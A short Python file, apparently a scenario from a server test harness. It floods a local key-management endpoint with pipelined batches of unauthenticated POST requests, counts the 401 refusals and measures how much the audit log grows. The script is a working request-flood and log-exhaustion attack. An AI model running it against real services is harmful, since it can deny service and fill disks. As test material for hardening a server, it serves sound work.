"""Sends changes without an access token, on connections that send many requests at once."""

import socket
from pathlib import Path

TOKENS = True
OPTIONS = ["--audit", "{folder}/audit"]
SECONDS = 10
WORKERS = 2
BATCH = 200


def attack(target):
    request = b"POST /v1/pools/default/keys HTTP/1.1\r\nHost: localhost\r\n\r\n" * BATCH
    sent = 0
    while not target.has_ended():
        with socket.create_connection((target.address, target.port), timeout=30) as connection:
            try:
                while not target.has_ended():
                    connection.sendall(request)
                    answered = 0
                    while answered < BATCH:
                        piece = connection.recv(1 << 16)
                        if not piece:
                            raise ConnectionError
                        answered += piece.count(b"HTTP/1.1 401")
                    sent += BATCH
            except OSError:
                pass
    logged = sum(file.stat().st_size for file in Path(target.folder).glob("audit*"))
    return f"{sent} requests refused, {logged >> 10} KiB of audit log"
